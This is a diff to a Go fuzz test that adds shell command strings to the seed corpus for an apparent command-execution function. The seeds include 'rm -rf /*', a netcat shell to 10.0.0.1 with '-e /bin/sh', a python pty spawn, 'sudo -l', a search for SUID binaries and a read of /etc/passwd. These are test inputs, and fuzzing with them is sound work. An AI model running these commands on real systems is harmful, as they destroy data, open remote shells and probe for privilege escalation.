@@ -48,6 +48,10 @@ func FuzzExec(f *testing.F) {
 		"cd /tmp; mkdir -p a/b; echo x > a/b/c; cat a/b/c | wc -c", "ls -la / | grep root | awk '{print $3}'",
 		"wget http://x/y; curl -O http://x/z", "echo $(( 7 / 0 ))", "sh -c 'sh -c \"echo hi\"'", "cat /proc/cpuinfo | head",
 		"rm -rf /*; ls /", "printf '%s\\n' a b | sort -r | uniq -c", "cut -d: -f1 /etc/passwd", "ps aux; ps -ef; ps",
+		"ssh -V; ssh -p 22 root@10.0.0.1", "nc -lvp 4444; nc 10.0.0.1 4444 -e /bin/sh", "python3 -c 'import sys;print(sys.version)'",
+		"python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", "perl -e 'print \"a\\n\"'", "sudo -l; sudo -V; sudo -n id",
+		"systemctl status ssh; systemctl list-units; service --status-all", "find / -perm -4000 -type f -exec ls -la {} \\;",
+		"find . -maxdepth 2 -name '*.sh' -user root -writable", "getent passwd root; ss -tlnp; lsblk; mount; locale",
 	} {
 		f.Add(s)
 	}
